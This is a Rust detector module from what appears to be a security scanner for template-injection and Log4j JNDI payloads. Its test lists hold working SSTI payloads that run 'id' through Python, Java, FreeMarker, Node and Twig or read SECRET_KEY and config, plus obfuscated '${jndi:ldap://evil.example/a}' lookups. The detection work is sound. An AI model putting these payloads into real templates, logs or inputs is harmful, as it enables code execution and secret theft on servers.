//! Texts that a template engine, expression language or logger would evaluate.

mod rules;

use bartizan_core::catalog::{Docs, Meta, Reference};
use bartizan_core::{Category, Severity};

use crate::detector::{Detector, Findings, Hit};
use crate::rules::{self as engine, RuleSet};
use crate::text::View;

pub(super) static DETECTOR: TemplateInjection = TemplateInjection;

/// Finds payloads of template injection.
pub(super) struct TemplateInjection;

static RULES: RuleSet = RuleSet::new(&[rules::PROBES, rules::PYTHON, rules::JAVA, rules::OTHERS]);

static META: Meta = Meta {
    id: "template-injection",
    summary: "A value that a template engine or logger would evaluate",
    severity: Severity::High,
    category: Category::CodeInjection,
    label: "TEMPLATE",
    docs: Docs {
        finds: "Between the brackets of a template: products that only a test multiplies (TEMPLATE_PROBE), the inner names of \
                Python and secrets of a configuration (TEMPLATE_PYTHON), classes and processes of Java, OGNL, SpEL, FreeMarker and \
                Velocity (TEMPLATE_JAVA), calls of the system from ERB, EJS, Twig, Smarty, Pug and Handlebars (TEMPLATE_CALL); and \
                lookups of a logger by JNDI, nested or spelled out letter by letter (TEMPLATE_LOOKUP).",
        matters: "What a model writes is put into mails, pages and logs. A template engine that reads it as its own \
                  text runs it on the server.",
        example: "`{{ cycler.__init__.__globals__ }}` and `${jndi:ldap://…}` are found, `{{ user.name }}` is not.",
        fix: "Block it in tool calls and answers that templates show, and hand values to templates as data, never as source.",
        limits: "Known forms only. Expressions that merely read ordinary variables pass, and so do sums: `{{ 1 + 1 }}` is \
                 what guides show. Texts that teach about these attacks are found.",
    },
    references: &[
        Reference::Cwe(1336),
        Reference::Cwe(917),
        Reference::Cwe(94),
        Reference::Owasp("LLM05:2025"),
    ],
    flags: &[
        "{{7*7}}",
        "Hello {{ 7*'7' }}",
        "${7*7}",
        "<%= 7 * 7 %>",
        "#{7*7}",
        "*{1337*1337}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "{{ config.items() }}",
        "{{ settings.SECRET_KEY }}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "#{T(java.lang.System).getenv()}",
        "${\"\".getClass().forName(\"java.lang.Runtime\")}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:NOTHING:-j}ndi:ldap://evil.example/a}",
        "$%7Bjndi:dns://evil.example/a%7D",
        "<%= system(\"id\") %>",
        "<%= `id` %>",
        "<%= IO.popen('ls').readlines() %>",
        "<%= global.process.mainModule.require('child_process').execSync('id') %>",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
        "{{ ['id']|filter('system') }}",
        "{system('id')}",
        "{php}echo `id`;{/php}",
        "#{root.process.mainModule.require('child_process').exec('id')}",
        "{{constructor.constructor('alert(1)')()}}",
        "{{#with \"s\" as |string|}}{{lookup string.sub \"constructor\"}}{{/with}}",
    ],
    passes: &[
        "Hello {{ user.name }}, you have {{ items|length }} new messages.",
        "{% for item in items %}<li>{{ item.title|upper }}</li>{% endfor %}",
        "<p>{{ 1 + 1 }} and {{ count * 2 }}</p>",
        "{{#each users}}{{this.name}}{{/each}} {{#if active}}on{{/if}}",
        "<div v-if=\"ok\">{{ ok ? 'yes' : 'no' }} {{ message.split('').reverse().join('') }}</div>",
        "const url = `${base}/users/${id}?page=${page * 10}`;",
        "const day = `${24 * 60 * 60 * 1000} ms`;",
        "puts \"#{2 * 3} and #{name.upcase}\"",
        "color: rgba($c, .5); width: #{$a * 2}px",
        "echo ${HOME}/bin ${VAR:-default} ${array[@]} ${#name}",
        "<%= user.name %> <% if admin? %> <%= link_to 'x', path %> <% end %>",
        "<%- include('header', { title: 'x' }) %>",
        "${{ secrets.GITHUB_TOKEN }} ${{ matrix.os }}",
        "{{ .Values.image.repository }}:{{ .Values.image.tag | default \"latest\" }}",
        "{{ ansible_facts['distribution'] }} {{ config.port }} {{ config['name'] }}",
        "{{ lookup('file', 'a.txt') }}",
        "class A:\n    def __init__(self):\n        self.__class__.__name__",
        "f\"{self.__class__.__name__}({self.x!r})\"",
        "${project.version} ${java.home} ${env:PATH} ${sys:user.home}",
        "Log4j replaced lookups such as jndi in messages; see CVE-2021-44228.",
        "<bean id=\"x\" class=\"a.B\"><property name=\"y\" value=\"#{systemProperties['y']}\"/></bean>",
        "@Value(\"#{T(java.lang.Math).random() * 100.0}\") private double seed;",
        "Runtime.getRuntime().exec(cmd)",
        "Class.forName(\"com.example.Driver\")",
        "[[ $a == *{x,y}* ]] && echo {1..7}",
        "{system} prompt and {user} prompt: {question}",
        "<?php echo $name; ?> {$smarty.now|date_format}",
        "{{ '{{' }} raw {{ '}}' }} {% raw %}{{ x }}{% endraw %}",
        "\\frac{{7}}{{8}} x_{7*8} {{a}*{b}}",
        "The area is {7 * 6} as a set.",
    ],
};

impl Detector for TemplateInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn literals(&self) -> Vec<String> {
        RULES.literals()
    }

    fn begins_word(&self, literal: usize) -> bool {
        RULES.begins_word(literal)
    }

    fn look_behind(&self) -> usize {
        engine::LOOK_BEHIND
    }

    fn prepare(&self) {
        RULES.prepare();
    }

    fn inspect(&self, view: &View<'_>, hits: &[Hit], findings: &mut Findings<'_>) {
        RULES.inspect(view, hits, findings);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_are_sound() {
        engine::testing::assert_sound(&RULES, &META, TemplateInjection.look_behind());
    }
}
